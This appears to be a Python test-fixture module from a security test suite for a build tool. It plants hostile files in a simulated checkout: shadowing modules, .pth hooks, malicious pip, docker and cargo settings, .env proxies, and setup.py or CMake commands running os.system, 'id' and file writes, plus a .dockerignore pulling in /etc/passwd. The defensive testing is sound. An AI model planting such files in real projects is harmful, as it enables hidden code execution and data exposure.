"""Programs, modules and settings of tools in a checkout, which are not those of the user."""

from __future__ import annotations

from ways import Scene, way


def _module(s: Scene, name: str) -> None:
    s.write(name, f"open({str(s.victim)!r} + '/pwned-' + __name__, 'w')\n")


@way("programs")
def programs_with_known_names(s: Scene) -> None:
    """``PATH`` has ``.`` and an empty entry."""
    for name in ("docker", "git", "python", "python3", "buildx", "docker-buildx", "ccache", "pip", "uv", "ssh", "nvidia-smi",
                 "cibuildwheel", "auditwheel", "dpkg", "ldd", "apt-get", "sh", "xdg-open", "uname", "gcc"):  # fmt: skip
        s.program(f"bin/{name}")
        if name not in ("pip", "cibuildwheel", "auditwheel"):  # Modules below.
            s.program(name)


@way("programs")
def modules_of_the_library(s: Scene) -> None:
    """Modules that Python would import from the working folder."""
    for name in ("json", "typing", "tomllib", "subprocess", "tempfile", "re", "zipfile", "signal", "gc"):
        _module(s, f"{name}.py")


@way("programs")
def modules_of_startup(s: Scene) -> None:
    """Modules that Python imports when it starts."""
    for name in ("sitecustomize.py", "usercustomize.py", "site.py", "encodings/__init__.py"):
        _module(s, name)


@way("programs")
def modules_of_bakery(s: Scene) -> None:
    """Bakery itself, and what it imports."""
    for name in ("bakery", "typer", "rich", "pydantic", "click", "packaging", "python_on_whales", "hcl2"):
        _module(s, f"{name}/__init__.py")
    _module(s, "bakery/__main__.py")


@way("programs")
def modules_of_tools(s: Scene) -> None:
    """Tools that are started as modules."""
    for name in ("pip", "cibuildwheel", "auditwheel", "abi3audit", "iree", "build", "setuptools"):
        _module(s, f"{name}/__init__.py")
        _module(s, f"{name}/__main__.py")


@way("programs")
def files_of_site_packages(s: Scene) -> None:
    """Lines of ``.pth`` files and an environment in the folder."""
    line = f"import os; open({str(s.victim)!r} + '/pwned-pth', 'w')\n"
    for name in ("evil.pth", ".venv/lib/python3.11/site-packages/evil.pth", "pyvenv.cfg", "python._pth"):
        s.write(name, "home = .\n" if name.endswith("cfg") else line)
    for name in (".venv/bin/python", ".venv/bin/pip", "venv/bin/python"):
        s.program(name)


@way("programs")
def settings_of_pytest(s: Scene) -> None:
    """Tests import these."""
    _module(s, "conftest.py")
    s.write("pytest.ini", "[pytest]\naddopts = -p pwned\n")
    s.write("tox.ini", f"[testenv]\ncommands = {s.touch}\n")
    s.write("noxfile.py", f"import os\nos.system({s.touch!r})\n")


@way("programs")
def settings_of_pip(s: Scene) -> None:
    """Indexes of the folder's settings."""
    url = f"http://{s.address}/simple"
    for name in ("pip.conf", "pip.ini", ".pip/pip.conf", ".config/pip/pip.conf", ".venv/pip.conf"):
        s.write(name, f"[global]\nindex-url = {url}\n")
    s.write("uv.toml", f'index-url = "{url}"\n')
    s.write(".pypirc", f"[pypi]\nrepository = {url}\n")
    s.write("setup.cfg", f"[easy_install]\nindex_url = {url}\n[options]\nsetup_requires = pwned\n")
    s.write(".condarc", f"channels: [{url}]\n")
    s.write(".netrc", "machine 127.0.0.1 login pwned password pwned\n")


@way("programs")
def settings_of_docker(s: Scene) -> None:
    """Files that docker and buildx find in the working folder."""
    evil = {"target": {"wheel": {"output": [f"type=local,dest={s.victim}/pwned"]}}}
    s.write("docker-bake.override.hcl", f'target "wheel" {{ output = ["type=local,dest={s.victim}/pwned"] }}\n')
    s.write("docker-bake.hcl", f'target "default" {{ output = ["type=local,dest={s.victim}/pwned"] }}\n')
    s.write("docker-bake.json", str(evil).replace("'", '"'))
    s.write("docker-compose.yml", f"services:\n  x:\n    build: http://{s.address}/x\n    volumes: ['{s.victim}:/x']\n")
    s.write("compose.yaml", "services:\n  x:\n    image: pwned\n")
    s.write("buildx.json", "{}")
    s.write("buildkitd.toml", 'insecure-entitlements = ["security.insecure"]\n')
    s.write(
        ".docker/config.json",
        f'{{"credsStore": "pwned", "proxies": {{"default": {{"httpProxy": "http://{s.address}"}}}}}}',
    )
    s.write("Dockerfile", f"# syntax={s.address}/pwned\nFROM scratch\n")
    s.write("wheel.Dockerfile", f"# syntax={s.address}/pwned\nFROM scratch\n")


@way("programs")
def dotenv(s: Scene) -> None:
    """Variables of a file in the folder."""
    text = (
        f"DOCKER_HOST=tcp://{s.address}\nBAKERY_ALLOW=secret.command=t\nPIP_INDEX_URL=http://{s.address}\n"
        f"BUILDX_BAKE_ENTITLEMENTS_FS=0\nCOMPOSE_FILE=pwned\nHTTP_PROXY=http://{s.address}\nGIT_DIR=pwned\n"
    )
    s.write(".env", text)
    s.write(".envrc", f"{s.touch}\n")
    s.write(".bashrc", f"{s.touch}\n")
    s.write(".python-version", "../../pwned\n")
    s.write(".tool-versions", "python pwned\n")
    s.write("mise.toml", f'[env]\n_.source = "{s.touch}"\n')


@way("programs")
def dockerignore(s: Scene) -> None:
    """Patterns that would take in what is outside."""
    s.write(".dockerignore", f"!{s.out()}\n!../**\n!/etc/passwd\n!.git\n!**/../**\n[\n**/**/**/*a*a*a*a*a*a*b\n")


@way("programs")
def cargo(s: Scene) -> None:
    """Settings of cargo that run programs."""
    program = s.program("cargo-evil")
    s.write(
        ".cargo/config.toml",
        f'[build]\nrustc-wrapper = "{program}"\n[registries.x]\nindex = "sparse+http://{s.address}/"\n',
    )
    s.write("rust-toolchain.toml", f'[toolchain]\npath = "{s.victim}"\n')
    s.write("build.rs", f'fn main() {{ std::fs::write("{s.victim}/pwned", "").unwrap(); }}\n')


@way("programs")
def project_code(s: Scene) -> None:
    """Code of the project itself, which runs in the build and never on this machine."""
    code = f"import os\nos.system({s.touch!r})\nopen({str(s.victim)!r} + '/pwned-setup', 'w')\n"
    s.write("setup.py", code + "from setuptools import setup\nsetup()\n")
    s.write("build_backend.py", code)
    folder = s.project("setup_py", pyproject="")
    (s.checkout / folder / "pyproject.toml").unlink()
    (s.checkout / folder / "bakery.toml").unlink()
    s.write(f"{folder}/setup.py", code + "from setuptools import setup\nsetup(name=os.popen('id').read())\n")
    s.write(
        f"{folder}/CMakeLists.txt", f'project(x)\nexecute_process(COMMAND {s.touch})\nfile(WRITE {s.victim}/pwned "")\n'
    )
    s.write(f"{folder}/meson.build", f"project('x', version: run_command('touch', '{s.victim}/pwned').stdout())\n")


@way("programs")
def settings_of_cibuildwheel(s: Scene) -> None:
    """Commands and mounts of cibuildwheel's settings."""
    folder = s.project("cibuildwheel")
    (s.checkout / folder / "bakery.toml").unlink()
    s.write(
        f"{folder}/pyproject.toml",
        '[build-system]\nrequires = ["setuptools"]\n[project]\nname = "demo"\nversion = "1"\n'
        f'[tool.cibuildwheel]\nbefore-all = "{s.touch}"\nbefore-build = "$({s.touch})"\nenvironment = {{ X = "$({s.touch})" }}\n'
        f'container-engine = "docker; create_args: --volume={s.victim}:/x"\nmanylinux-x86_64-image = "{s.address}/pwned"\n',
    )
